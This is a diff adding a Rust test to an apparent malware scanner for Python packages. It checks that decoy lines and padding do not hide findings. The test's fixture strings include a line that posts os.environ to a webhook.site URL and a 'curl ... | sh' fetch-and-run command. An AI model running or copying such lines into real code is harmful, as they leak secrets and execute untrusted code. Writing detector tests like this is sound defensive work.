@@ -314,3 +314,21 @@ fn values_are_followed_through_functions_objects_and_variables() {
         assert!(flow, "{source} {found:?}");
     }
 }
+
+/// Harmless hits cannot push out the one that matters, nor a flood of calls the one that harms.
+#[test]
+fn decoys_hide_nothing() {
+    let decoys = "URLS = ['https://webhook.site/x']\n".repeat(100);
+    let source =
+        format!("import requests, os\n{decoys}requests.post('https://webhook.site/y', data=dict(os.environ))\n");
+    let report = |source: &str| {
+        let files = vec![("p.py".to_owned(), source.as_bytes().to_vec())];
+        analyse(DistributionKind::Wheel, &files).report
+    };
+    let worst = report(&source).findings.iter().filter(|f| f.rule == "collector-address").map(|f| f.severity).max();
+    assert_eq!(worst, Some(Severity::Critical));
+    let source = format!("import os\n{}os.system('curl https://a.example.org/x | sh')\n", "open(a)\n".repeat(25_000));
+    let report = report(&source);
+    assert!(report.rule_hits.contains_key("process-spawn"), "{:?}", report.rule_hits);
+    assert!(report.coverage.has_gaps(), "what was left out is told");
+}
